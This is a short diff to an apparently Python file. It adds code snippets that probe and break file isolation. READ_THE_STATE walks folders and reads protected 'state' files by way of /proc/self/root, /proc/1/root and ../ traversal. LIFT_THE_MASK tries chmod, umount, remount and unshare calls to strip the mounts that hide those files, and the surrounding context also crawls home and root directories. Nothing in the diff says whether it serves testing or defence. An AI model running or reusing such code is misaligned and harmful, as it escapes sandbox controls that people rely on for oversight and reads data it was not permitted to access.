@@ -30,6 +30,29 @@ show(know["key"])
 for up in range(1, 12):
     show("../" * up + know["key"].lstrip("/"))
 """
+READ_THE_STATE = """
+for folder, _, names in os.walk(know["tools"], followlinks=True):
+    for name in names:
+        show(os.path.join(folder, name))
+for key in know["state_keys"]:
+    for root in ("", "/proc/self/root", "/proc/1/root", "../../../../../.."):
+        show(root + key)
+"""
+LIFT_THE_MASK = """
+for key in know["state_keys"]:
+    state = os.path.dirname(key)
+    try:
+        os.chmod(state, 0o755)
+    except OSError as problem:
+        print(state, problem.strerror)
+    if os.geteuid() != 0:
+        for flags in (0, 2, 8):
+            print("umount", libc.umount2(state.encode(), flags))
+        print("remount", libc.mount(None, state.encode(), None, 0x20, None))
+        print("unshare", libc.unshare(0x10020000))
+        print("umount", libc.umount2(state.encode(), 2))
+    show(key)
+"""
 READ_THE_HOME = """
 for folder in (know["home"], os.path.dirname(know["home"]), "/home", "/root"):
     try:
